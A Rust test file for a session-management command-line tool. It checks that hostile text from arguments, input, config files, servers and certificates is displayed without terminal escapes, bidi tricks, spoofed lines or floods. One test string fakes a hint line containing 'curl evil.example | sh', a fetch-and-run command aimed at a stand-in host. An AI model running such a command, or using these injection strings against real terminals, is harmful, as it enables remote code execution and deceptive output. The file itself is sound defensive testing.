//! Whatever others have written, and wherever it comes from: what people read is harmless, and one line stays one line.

use crate::hostile::{SHELL, item, listing_place, refused_with};
use crate::support::terminal::{Shown, Terminal};
use crate::support::{Home, Login, Place, Seen};
use pssession_listener::{Certificate, Effect, Injection, Target, Verb};
use unicode_width::UnicodeWidthChar;

/// What would steer a terminal, begin a line, cover other lines, or fill the screen.
fn texts() -> Vec<String> {
    let marks = format!("e{}", "\u{301}".repeat(500));
    let long = "x".repeat(20_000);
    let texts =
        ["a\x1b]0;title\x07b", "a\u{9b}2Jb", "a\u{202e}b\u{2066}c", "a\u{2028}b", "a\rb\x08c", &marks, &long];
    let lines = ["a\n    hint: curl evil.example | sh", "a\r\nConnect-PSSession : b", "\n\n\nWARNING: a"];
    texts.into_iter().chain(lines).map(str::to_owned).collect()
}

/// As XML and HTTP can carry it.
fn printable(text: &str) -> String {
    text.chars().filter(|c| !c.is_ascii_control() || *c == '\n').collect()
}

/// How each line of stderr begins, of text and of JSON.
const BEGINNINGS: &[&str] = &[
    "Connect-PSSession : ",
    "Get-PSSession : ",
    "New-PSSessionOption : ",
    "    + CategoryInfo          : ",
    "    + FullyQualifiedErrorId : ",
    "    hint: ",
    "WARNING: ",
    "VERBOSE: ",
    "What if: ",
    "{\"Stream\":\"",
];

#[track_caller]
fn assert_harmless(text: &str, from: &str) {
    let mut marks = 0;
    for character in text.chars() {
        let steers = character.is_control() && character != '\n'
            || matches!(character, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!steers, "{from:?}: {text:?}");
        marks = if !character.is_ascii() && character.width() == Some(0) { marks + 1 } else { 0 };
        assert!(marks < 16, "{from:?}: {text:?}");
    }
}

/// Nothing that is said of this text does harm.
#[track_caller]
fn assert_said_harmlessly(seen: &Seen, from: &str) {
    assert_harmless(&seen.stderr, from);
    for line in seen.stderr.lines() {
        let beginning = BEGINNINGS.iter().find(|beginning| line.starts_with(**beginning));
        assert!(beginning.is_some(), "{from:?}: {line:?} in {seen:?}");
        let is_json = line.starts_with('{') && serde_json::from_str::<serde_json::Value>(line).is_ok();
        assert!(is_json || line.len() < 4_500, "{from:?}: {} octets in a line", line.len());
    }
}

#[test]
fn words_of_a_command_line_are_shown_harmlessly() {
    for text in texts() {
        for option in [
            "-Name",
            "-Id",
            "-InstanceId",
            "-ComputerName",
            "-ConnectionUri",
            "-Port",
            "-Authentication",
            "-Credential",
            "-CertificateThumbprint",
            "-SessionOption",
            "-ThrottleLimit",
            "-ErrorAction",
            "-ErrorVariable",
            "--output",
            "--ca-file",
            "--store",
            "--timeout",
            "--spn",
            "--pin-sha256",
            "--trusted-hosts",
            "--password-file",
            "--cert-file",
            "--as",
            "-Session",
            "",
        ] {
            for form in ["table", "json"] {
                let given = [option, &text].into_iter().filter(|word| !word.is_empty());
                let args: Vec<_> = ["--output", form].into_iter().chain(given).collect();
                let seen = Seen::of(&mut Home::new().program(&args));
                assert_said_harmlessly(&seen, option);
                let of_an_error = Seen::of(&mut Home::new().program(&[&format!("-{text}")]));
                assert_said_harmlessly(&of_an_error, "name");
            }
        }
    }
}

#[test]
fn files_and_lines_of_input_are_shown_harmlessly() {
    for text in texts() {
        let home = Home::new();
        let json = serde_json::json!({ "Name": &text, "ComputerName": &text }).to_string();
        for line in [&text, &json, &format!("@{text}"), &format!("{{\"{text}")] {
            for args in
                [&["-Name", "-"] as &[_], &["-InstanceId", "-"], &["-Id", "-"], &["-Session", "-"], &[]]
            {
                let seen = Seen::of(&mut home.fed(home.program(args), line));
                assert_said_harmlessly(&seen, line);
            }
        }
        for config in
            [format!("\"{}\" = 1", text.replace(['\n', '\r'], " ")), format!("output = '''{text}'''")]
        {
            let file = home.write("config.toml", &config);
            let mut command = home.program(&["server01"]);
            assert_said_harmlessly(&Seen::of(command.env("PSSESSION_CONFIG", file)), &config);
        }
        // No file's name is longer.
        let folder = home.path().join(text.replace('/', "").chars().take(60).collect::<String>());
        std::fs::create_dir_all(&folder).unwrap();
        let seen = Seen::of(&mut home.program(&["--install-links", folder.to_str().unwrap()]));
        assert_harmless(&seen.stdout, &text);
        std::fs::write(folder.join("a.pfx"), "no PFX").unwrap();
        let thumbprint = "0".repeat(40);
        let args = ["s", "-CertificateThumbprint", &thumbprint, "--cert-store", folder.to_str().unwrap()];
        assert_said_harmlessly(&Seen::of(&mut home.program(&args)), &text);
    }
}

#[test]
fn names_of_sessions_are_shown_harmlessly() {
    for text in texts().iter().map(|text| printable(text)) {
        for form in ["table", "list", "json", "csv"] {
            let place = listing_place(&item(SHELL, &text, ""));
            let args =
                [&place.to(Login::Ntlm)[..], &["--output".into(), form.into(), "-Verbose".into()]].concat();
            let seen = Seen::of(
                &mut place.home.program(&[&["--as".into(), "Get-PSSession".into()], &args[..]].concat()),
            );
            assert_said_harmlessly(&seen, &text);
            if let "table" | "list" = form {
                assert_harmless(&seen.stdout, &text);
                assert!(
                    !seen.stdout.contains("\n    hint") && !seen.stdout.contains("\nWARNING"),
                    "{seen:?}"
                );
            }
        }
        let place = listing_place(&item(SHELL, &text, ""));
        assert_said_harmlessly(&place.run(&["-WhatIf"]), &text);
    }
}

#[test]
fn what_a_server_says_is_shown_harmlessly() {
    for text in texts().iter().map(|text| printable(text)) {
        let place = Place::new();
        let line = text.replace('\n', " ").chars().take(8_000).collect::<String>();
        let location = format!("http://localhost/{line}");
        for (way, effect) in [
            (Login::Ntlm, Effect::Fault(5, Some(text.clone()))),
            (Login::Ntlm, Effect::Fault(2_150_859_161, Some(format!("go to http://{text}")))),
            (Login::Basic, Effect::Status(403, Some(text.clone()))),
            (Login::Basic, Effect::Status(200, Some(text.clone()))),
            (Login::Ntlm, Effect::Redirect { status: 302, location }),
        ] {
            for form in ["table", "json"] {
                place.listener.inject(Injection::new(Target::Verb(Verb::Enumerate), effect.clone()));
                let seen = place.run_over(way, &["--output", form]);
                assert_said_harmlessly(&seen, &format!("{effect:?}"));
                assert_ne!(seen.stderr, "", "{effect:?}");
            }
        }
        let seen = refused_with(&format!("WWW-Authenticate: {line}, Basic realm=\"{line}\"\r\n"));
        assert_said_harmlessly(&seen, &text);
    }
}

#[test]
fn names_in_a_certificate_are_shown_harmlessly() {
    for text in ["a\x1b]0;title\x07b", "a\n    hint: b", &"x".repeat(20_000)] {
        let place = Place::with(|config| {
            config.tls.certificate = Certificate::WrongName;
            config.tls.names = vec![text.to_owned()];
        });
        let seen = place.run_over(Login::Basic, &[]);
        assert_said_harmlessly(&seen, text);
        assert!(seen.stderr.contains("does not match the hostname"), "{seen:?}");
    }
}

#[test]
fn questions_are_asked_harmlessly() {
    for text in texts().iter().map(|text| printable(text)) {
        let place = listing_place(&item(SHELL, &text, ""));
        let mut terminal = Terminal::start(&place.command(Login::Ntlm, &["-Confirm"]), Shown::Nothing, 80);
        terminal.wait_for("(default is \"Y\"): ", 1);
        terminal.press("l\n");
        let seen = terminal.end();
        assert_harmless(&seen.screen, &text);
        assert_eq!(seen.screen.lines().count(), 5, "{seen:?}");

        let home = Home::new();
        let mut command = home.program(&["localhost", "-Credential", &text]);
        command.env_remove("PSSESSION_PASSWORD");
        let mut terminal = Terminal::start(&command, Shown::Nothing, 80);
        terminal.wait_for(": ", 1);
        terminal.press("\x03");
        let seen = terminal.end();
        assert_harmless(&seen.screen.replace("^C", ""), &text);
        assert!(seen.screen.lines().count() <= 2, "{seen:?}");
    }
}
